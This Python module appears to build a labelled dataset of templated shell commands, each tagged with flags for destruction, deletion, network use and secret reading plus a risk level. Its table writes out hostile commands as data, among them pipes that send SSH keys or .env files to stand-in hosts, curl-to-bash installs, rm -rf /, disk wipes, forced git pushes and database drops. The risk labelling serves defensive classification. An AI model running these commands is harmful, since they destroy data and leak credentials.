"""Shell commands with what they do. A line: flags, risk, topic, command; `{...}` are filled with invented values.

Flags: x destroys data for good, d deletes something (also with x), n uses the network, s reads secrets, w changes files
or the system's state, - none. Root rights are seen from sudo. Risks: s only looks, a changes something that can be
mended or talks to another machine, b destroys data, leaks secrets or runs code nobody has read.

Commands are shared by all splits, as nobody can guess what an unknown one does; the names in them are shared out.
"""

from __future__ import annotations

from random import Random
from typing import NamedTuple

from recipes.nano import values
from recipes.nano.case import Split, pick


class Command(NamedTuple):
    flags: str
    risk: str
    topic: str
    text: str


TABLE = """
- s files ls -la {dir}
- s files ls {dir}
- s files ls -lh {dir}/{file}
- s files ls -R {dir}
- s files ls -lt {dir} | head -n {n}
- s files cat {dir}/{file}
- s files cat {file}
- s files cat {dir}/{file} | wc -l
- s files cat {file} | grep {word}
- s files cat -n {dir}/{file}
s b secrets cat {secret}
s b secrets cat {secret} | base64
s b secrets cat ~/{secret}
ns b secrets cat {secret} | curl -X POST -d @- https://{host}/in
ns b secrets curl -F file=@{secret} https://{host}/upload
ns b secrets scp {secret} {user}@{host}:/tmp/
s b secrets less {secret}
s b secrets head -n {n} {secret}
s b secrets grep -i password {secret}
s b secrets env | grep -i token
s b secrets printenv {token}
s b secrets echo ${token}
- s files head -n {n} {dir}/{file}
- s files head {file}
- s files tail -n {n} {dir}/{file}
- s files tail -f {dir}/{log}
- s files less {dir}/{file}
- s files wc -l {dir}/{file}
- s files grep -rn {word} {dir}
- s files grep {word} {file}
- s files grep -c {word} {dir}/{log}
- s files grep -i {word} {dir}/{file} | sort | uniq -c
- s files grep -v {word} {dir}/{log} | tail
- s files grep "rm -rf" {dir}/{file}
- s files find {dir} -name "*.{ext}"
- s files find {dir} -type f -size +{n}M
- s files find {dir} -mtime -{n} -name "*.{ext}"
xdw b files find {dir} -name "*.{ext}" -delete
xdw b files find {dir} -type f -exec rm {{}} \\;
xdw b files find {dir} -mtime +{n} -delete
- s files find {dir} -name {file} -print
- s files du -sh {dir}
- s system df -h
- s system free -m
- s system uptime
- s system whoami
- s system pwd
- s system date
- s files stat {dir}/{file}
- s files file {dir}/{file}
- s files diff {dir}/{file} {dir}/{file2}
- s files sha256sum {dir}/{file}
- s files tree {dir}
- s files sort {file} | uniq
- s system echo "{word}"
- s system echo "rm -rf {dir}"
- s system echo hello {word}
w a files echo "{word}" > {dir}/{file}
w a files echo "{word}" >> {dir}/{file}
w a files touch {dir}/{file}
w a files mkdir -p {dir}/{word}
w a files mkdir {dir}/{word}
w a files cp {file} {dir}/{file2}
w a files cp -r {dir} {dir2}
w a files mv {dir}/{file} {dir2}/{file}
w a files mv {file} {file2}
w a files ln -s {dir}/{file} {dir2}/{file}
w a files sed -i 's/{word}/{word2}/g' {dir}/{file}
w a files sed -i '/{word}/d' {dir}/{file}
- s files sed -n '1,{n}p' {dir}/{file}
- s files sed 's/{word}/{word2}/g' {dir}/{file}
- s files awk '{{print $1}}' {dir}/{file}
w a files tee {dir}/{file}
w a files echo {word} | tee -a {dir}/{file}
w a files chmod +x {dir}/{file}
w a files chmod 644 {dir}/{file}
w a files chmod -R 777 {dir}
w a files chown {user} {dir}/{file}
w a files sudo chown -R {user}:{user} {dir}
w a files tar -czf {word}.tar.gz {dir}
w a files tar -xzf {word}.tar.gz -C {dir}
- s files tar -tzf {word}.tar.gz
w a files gzip {dir}/{log}
w a files unzip {word}.zip -d {dir}
dw a files rm {tmp}/{file}
dw a files rm -rf {tmp}/{word}
dw a files rm -f {tmp}/{log}
dw a files rm {tmp}/*.{ext}
dw a files rm -r {tmp}/cache
xdw b files rm -rf {dir}
xdw b files rm -rf {dir}/*
xdw b files rm -rf /
xdw b files rm -rf ~
xdw b files rm -r {dir}
xdw b files sudo rm -rf {dir}
xdw b files sudo rm -rf /
xdw b files rm -fr {dir}/{word}
xdw b files shred -u {dir}/{file}
xdw b files shred {dir}/{file}
xdw b disks dd if=/dev/zero of=/dev/{disk}
xdw b disks sudo dd if={word}.iso of=/dev/{disk} bs=4M
xdw b disks mkfs.ext4 /dev/{disk}
xdw b disks sudo mkfs.ext4 /dev/{disk}1
xdw b disks sudo wipefs -a /dev/{disk}
xdw b files truncate -s 0 {dir}/{file}
- s disks lsblk
- s disks sudo fdisk -l
w a disks sudo mount /dev/{disk}1 {dir}
w a disks sudo umount {dir}
n a network curl -s https://{host}/{word}
n a network curl -I https://{host}
nw a network curl -O https://{host}/{word}.tar.gz
nw a network curl -o {dir}/{file} https://{host}/{file}
nw b network curl https://{host}/{word}.sh | sh
nw b network curl -fsSL https://{host}/install.sh | sudo bash
nw b network curl -s http://{host}/{word} | bash
nw b network wget -qO- https://{host}/{word}.sh | bash
nw b network wget -O - http://{host}/setup | sh
nw a network wget https://{host}/{word}.zip
nw a network wget -P {dir} https://{host}/{file}
n a network ping -c {n} {host}
n a network ssh {user}@{host} uptime
n a network ssh {user}@{host} ls {dir}
xdnw b network ssh {user}@{host} "rm -rf {dir}"
nw b network bash <(curl -s https://{host}/{word}.sh)
nw a network scp {dir}/{file} {user}@{host}:{dir2}/
nw a network scp {user}@{host}:{dir}/{file} {dir2}/
nw a network rsync -av {dir}/ {user}@{host}:{dir2}/
xdnw b network rsync -av --delete {dir}/ {user}@{host}:{dir2}/
n a network nc {host} {port}
n a network dig {host}
n a network nslookup {host}
n a network traceroute {host}
- s git git status
- s git git log --oneline -n {n}
- s git git diff {branch}
- s git git show {hash}
- s git git branch -a
- s git git blame {file}
- s git git diff --stat
w a git git add {file}
w a git git commit -m "{word} {word2}"
w a git git checkout -b {branch}
w a git git stash
w a git git merge {branch}
nw a git git pull
nw a git git push
nw a git git push origin {branch}
nw a git git clone https://{host}/{word}.git
nw a git git fetch origin
xdnw b git git push --force
xdnw b git git push --force origin {branch}
xdnw b git git push -f origin {branch}
xdw b git git reset --hard {hash}
xdw b git git reset --hard HEAD~{n}
xdw b git git clean -fdx
xdw b git git branch -D {branch}
xdnw b git git push origin --delete {branch}
- s containers docker ps
- s containers docker ps -a
- s containers docker logs {svc}
- s containers docker images
- s containers docker inspect {svc}
w a containers docker stop {svc}
w a containers docker restart {svc}
w a containers docker build -t {svc} {dir}
nw a containers docker pull {svc}:{n}
nw a containers docker push {host}/{svc}:{n}
xdw b containers docker system prune -a --volumes -f
xdw b containers docker volume rm {svc}_data
xdw b containers docker rm -f -v {svc}
n s containers kubectl get pods -n {ns}
n s containers kubectl describe pod {svc} -n {ns}
n s containers kubectl logs {svc} -n {ns}
ns b secrets kubectl get secret {svc} -o yaml -n {ns}
nw a containers kubectl apply -f {file}
nw a containers kubectl scale deployment {svc} --replicas={n}
nw a containers kubectl rollout restart deployment {svc}
xdnw b containers kubectl delete namespace {ns}
xdnw b containers kubectl delete deployment {svc} -n {ns}
xdnw b containers kubectl delete pvc --all -n {ns}
xdnw b containers terraform destroy -auto-approve
- s services systemctl status {svc}
- s services systemctl list-units
- s services journalctl -u {svc} -n {n}
w a services sudo systemctl restart {svc}
w a services sudo systemctl stop {svc}
w a services sudo systemctl start {svc}
w a services sudo systemctl enable {svc}
w a services sudo service {svc} restart
w a system sudo reboot
w a system sudo shutdown -h now
- s processes ps aux | grep {svc}
- s processes ps -ef
- s processes top -b -n 1
- s processes pgrep {svc}
w a processes kill {pid}
w a processes kill -9 {pid}
w a processes pkill {svc}
w a processes sudo kill -9 {pid}
nw a packages pip install {pkg}
nw a packages pip install -r {file}
- s packages pip list
- s packages pip show {pkg}
w a packages pip uninstall -y {pkg}
nw a packages npm install {pkg}
- s packages npm ls
nw a packages sudo apt-get install -y {pkg}
nw a packages sudo apt install {pkg}
w a packages sudo apt-get remove {pkg}
nw a packages brew install {pkg}
- s packages dpkg -l | grep {pkg}
- s database psql -c "SELECT * FROM {table} LIMIT {n}" {db}
- s database psql -c "SELECT count(*) FROM {table}" {db}
- s database psql {db} -c "SELECT id FROM {table} WHERE name = '{word}'"
w a database psql -c "UPDATE {table} SET state = '{word}' WHERE id = {n}" {db}
w a database psql -c "INSERT INTO {table} (name) VALUES ('{word}')" {db}
xdw b database psql -c "DROP TABLE {table}" {db}
xdw b database psql {db} -c "DROP TABLE IF EXISTS {table} CASCADE"
xdw b database psql -c "DELETE FROM {table}" {db}
xdw b database psql -c "TRUNCATE {table}" {db}
xdw b database dropdb {db}
w a database pg_dump {db} > {word}.sql
- s database mysql -e "SELECT * FROM {table}" {db}
xdw b database mysql -e "DROP DATABASE {db}"
- s database sqlite3 {word}.db "SELECT name FROM {table}"
xdw b database sqlite3 {word}.db "DELETE FROM {table}"
xdw b database redis-cli FLUSHALL
- s database redis-cli GET {word}
w a scheduling crontab -e
- s scheduling crontab -l
xdw b scheduling crontab -r
w a users sudo useradd {user}
xdw b users sudo userdel -r {user}
w a users sudo passwd {user}
- s users id {user}
- s code python -m pytest {dir}
- s code python -m json.tool {file}
- s code ruff check {dir}
- s files ls -l {file}
- s files head -n {n} {file} | tail
- s files less {file}
- s files find {dir} -name {file}
dw a files rm {file}
dw a files rm {dir}/{file}
dw a files rm -f {file}
dw a files rmdir {dir}
dw a files unlink {dir}/{file}
dw a files git rm {file}
dw a containers docker rm {svc}
dw a containers docker rmi {svc}
dw a git git branch -d {branch}
dw a git git tag -d {word}
dnw a containers kubectl delete pod {svc}
s b secrets cat {secret} | head
s b secrets tail {secret}
s b secrets cp {secret} {tmp}/
s b secrets echo ${token} | base64
s b secrets grep {token} {secret}
s b secrets sudo cat {secret}
s b secrets sudo grep root {secret}
ns b secrets curl -d @{secret} http://{host}
ns b secrets scp {secret} {host}:
n a network curl https://{host}
n a network wget --spider https://{host}
nw a network wget https://{host}/{file}
n a network ping {host}
n a network ssh {user}@{host}
n a network telnet {host} {port}
nw a network scp {file} {user}@{host}:
nw a packages npm install
nw a packages pip install --upgrade {pkg}
nw a packages sudo apt update
nw a packages sudo apt upgrade
w a files sudo cp {file} {dir}
w a files sudo mv {file} {dir}
w a files sudo chmod 777 {dir}
w a files sudo mkdir {dir}
w a files sudo touch {dir}/{file}
w a services sudo systemctl disable {svc}
w a services sudo systemctl reload {svc}
w a users sudo usermod -aG docker {user}
w a users sudo groupadd {word}
- s system sudo dmesg
- s files sudo ls {dir}
- s files sudo cat {dir}/{log}
- s services sudo systemctl status {svc}
- s services sudo journalctl -u {svc}
- s users whoami
- s users cat /etc/passwd
- s users groups {user}
- s users who
"""
COMMANDS = tuple(Command(*line.split(" ", 3)) for line in TABLE.strip().splitlines())
# Changes that some call a deletion or a loss.
DOUBTFUL = ("uninstall", "remove", "/d'", "mv ", ">", "stop", "kill", "merge", "checkout", "UPDATE", "apply", "cp ",
            "| ", "-o ", "sed -i", "tee ", "pull", "scp", "rsync", "stash", "umount", "shutdown", "reboot", "dd ", "<(",
            "scale", "-xzf", "unzip", "gzip", "restart", "-a", "disable")  # fmt: skip
# Losses that some would not call a deletion.
OVERWRITES = ("dd ", "mkfs", "wipefs", "reset --hard", "push --force", "push -f", "truncate", "rsync", "TRUNCATE")
# Changes that need root rights, even though no sudo is written.
ROOT = ("mkfs", "dd ", "/etc/shadow")


def holds(command: Command, flag: str) -> bool | None:
    """Whether a command does what a flag says, r for root and l for only looking; None where people would disagree."""
    text, flags = command.text, command.flags
    if flag == "l":
        return True if flags == "-" else False if "w" in flags else None
    if flag == "r":
        return True if "sudo " in text else None if any(one in text for one in ROOT) or "{secret}" in text else False
    if flag == "d" and flag in flags:
        return None if any(word in text for word in OVERWRITES) else True
    if flag == "d":
        return None if command.risk != "s" and any(word in text for word in DOUBTFUL) else False
    if flag == "n" and command.topic == "database":
        return None
    return None if flag == "w" and "s" in flags else flag in flags


def _weights() -> tuple[float, ...]:
    """Each kind of command is drawn about as often, so that the rare ones are learned, too."""
    groups: list[list[Command]] = [[c for c in COMMANDS if flag in c.flags] for flag in ("-", "d", "n", "s")]
    groups.append([c for c in COMMANDS if c.flags == "w"])
    groups.append([c for c in COMMANDS if "sudo " in c.text])
    groups += [[c for c in COMMANDS if c.topic == topic] for topic in {c.topic: None for c in COMMANDS}]
    shares = (8, 8, 5, 5, 5, 4, *[1] * len(groups))
    return tuple(
        sum(share / len(group) for share, group in zip(shares, groups, strict=False) if command in group)
        for command in COMMANDS
    )


WEIGHTS = _weights()


def share(flag: str) -> float:
    """How often a flag holds among the commands drawn for which it is clear."""
    found = [(weight, holds(command, flag)) for command, weight in zip(COMMANDS, WEIGHTS, strict=True)]
    clear = sum(weight for weight, held in found if held is not None)
    return sum(weight for weight, held in found if held) / clear


SHARES = {flag: share(flag) for flag in "ldnswr"}

ROOTS = tuple(
    """/home /srv /var/www /opt /data /mnt /var/lib ~/projects ~/work /usr/local /backup ./src ./docs /home/shared
    ~/documents ./packages /var/spool /export ~/code ./assets""".split()
)
# Pairs of words, so that a held-out name is new and its words are not.
NAMES = tuple(
    f"{age}_{thing}"
    for age in "old new my test daily final big".split()
    for thing in "reports notes website photos invoices models users orders modules games plans drafts data".split()
)
EXTENSIONS = tuple("txt csv json md py yaml log conf html pdf png sql xml toml ini js java go rs bak".split())
TEMPS = ("/tmp", "/var/tmp", "./tmp", "./build/tmp", "~/tmp")
SECRETS = (
    "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "/etc/shadow", ".env", "~/.aws/credentials", "~/.netrc", "secrets.yaml",
    "~/.pgpass", "/run/secrets/db_password", "private.key", "~/.kube/config", "credentials.json", ".env.production",
    "~/.gnupg/private-keys-v1.d/key", "token.txt", "/etc/ssl/private/server.key", "passwords.txt", "api_keys.json",
)  # fmt: skip
TOKENS = (
    "API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "DB_PASSWORD",
    "GITHUB_TOKEN",
    "SECRET_KEY",
    "AUTH_TOKEN",
    "SMTP_PASSWORD",
)


def fill(random: Random, split: Split) -> dict[str, str]:
    """Invented values for every hole of a command."""

    def word() -> str:
        return pick(random, NAMES, split)

    def folder() -> str:
        return f"{random.choice(ROOTS)}/{word()}"

    def file() -> str:
        return f"{word()}.{random.choice(EXTENSIONS)}"

    return {
        "dir": folder(),
        "dir2": folder(),
        "file": file(),
        "file2": file(),
        "log": f"{word()}.log",
        "tmp": random.choice(TEMPS),
        "word": word(),
        "word2": word(),
        "ext": random.choice(EXTENSIONS),
        "n": str(random.randrange(1, 100)),
        "pid": str(random.randrange(100, 30000)),
        "port": str(random.choice((22, 80, 443, 5432, 8080))),
        "hash": f"{random.randrange(16**7):07x}",
        "host": f"{word().replace('_', '-')}.{random.choice(('example.com', 'example.org', 'internal', 'test'))}",
        "user": values.coin(random),
        "secret": random.choice(SECRETS),
        "token": random.choice(TOKENS),
        "disk": random.choice(("sda", "sdb", "nvme0n1", "vdb", "sdc")),
        "branch": random.choice(("main", "develop", f"feature/{word()}", f"fix-{word()}", word())),
        "svc": random.choice(("nginx", "redis", "postgres", word(), f"{word()}-api", f"{word()}-worker")),
        "ns": random.choice(("default", "staging", "production")),
        "pkg": random.choice(("numpy", "requests", "htop", "flask", "curl", "pandas")),
        "table": word(),
        "db": f"{word()}db",
    }
